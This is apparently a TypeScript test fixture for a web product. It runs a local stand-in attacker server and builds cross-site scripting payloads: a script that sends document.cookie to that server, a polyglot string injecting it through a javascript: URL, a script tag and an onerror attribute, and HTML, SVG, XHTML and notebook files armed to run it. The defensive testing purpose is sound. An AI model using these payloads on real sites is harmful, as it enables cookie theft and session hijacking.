import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';

/**
 * Somebody else's server, as an attacker has one. It keeps every request that a script, an image or a form was made to send
 * there, and serves what a test puts on it, with no header that would hold anything back.
 */
export class Trap {
  /** Addresses asked for, what was put here aside. */
  readonly caught: string[] = [];
  readonly #pages = new Map<string, { readonly type: string; readonly text: string }>();
  readonly #server: Server;

  constructor() {
    this.#server = createServer((request, response) => {
      const { url = '/' } = request;
      const page = this.#pages.get(url);
      if (page !== undefined) {
        response.writeHead(200, { 'Content-Type': page.type }).end(page.text);
        return;
      }
      if (url !== '/favicon.ico') this.caught.push(decodeURIComponent(url));
      response.writeHead(204, { 'Access-Control-Allow-Origin': '*' }).end();
    });
  }

  async listen(): Promise<void> {
    await new Promise<void>((resolve) => this.#server.listen(0, '127.0.0.1', resolve));
  }

  async close(): Promise<void> {
    this.#server.closeAllConnections();
    await new Promise((resolve) => this.#server.close(resolve));
  }

  /** Of the same site as the product, since ports do not tell sites apart: cookies that other sites do not get are sent here. */
  get neighbour(): string {
    return `http://127.0.0.1:${this.#port}`;
  }

  /** Of another site. */
  get stranger(): string {
    return `http://localhost:${this.#port}`;
  }

  put(path: string, type: string, text: string): void {
    this.#pages.set(path, { type, text });
  }

  /** What, wherever it runs, comes here with the cookies that it sees. */
  get script(): string {
    return `window.ran=1;fetch(\`${this.neighbour}/ran?\`+document.cookie)`;
  }

  /** The script in every guise in which a text becomes one, in element, attribute and address. */
  get words(): string {
    const { script } = this;
    return `javascript:${script}//'"></title></pre><script>${script}</script><img src=x onerror="${script}">`;
  }

  get #port(): number {
    return (this.#server.address() as AddressInfo).port;
  }
}

/** Files that run something when they are opened: kind, basename, type as which they would be opened, and text. */
export function armedFiles(script: string): readonly (readonly [string, string, string, string])[] {
  const html = `<!doctype html><html><head><script>${script}</script></head><body onload="${script}">armed</body></html>`;
  const svg = `<svg xmlns="http://www.w3.org/2000/svg"><script>${script}</script></svg>`;
  const notebook = {
    cells: [
      { cell_type: 'markdown', metadata: {}, source: [html] },
      {
        cell_type: 'code',
        execution_count: 1,
        metadata: {},
        source: [],
        outputs: [
          { output_type: 'display_data', metadata: {}, data: { 'text/html': [html], 'image/svg+xml': [svg] } },
          { output_type: 'display_data', metadata: {}, data: { 'application/javascript': [script] } },
        ],
      },
    ],
    metadata: {},
    nbformat: 4,
    nbformat_minor: 5,
  };
  return [
    ['file', 'armed.html', 'text/html', html],
    ['file', 'armed.svg', 'image/svg+xml', svg],
    [
      'file',
      'armed.xhtml',
      'application/xhtml+xml',
      `<html xmlns="http://www.w3.org/1999/xhtml"><head><script>${script}</script></head><body/></html>`,
    ],
    ['file', 'armed.xml', 'text/xml', svg],
    ['file', 'armed.js', 'text/javascript', script],
    ['ipynb', 'armed.ipynb', 'text/html', JSON.stringify(notebook)],
  ];
}
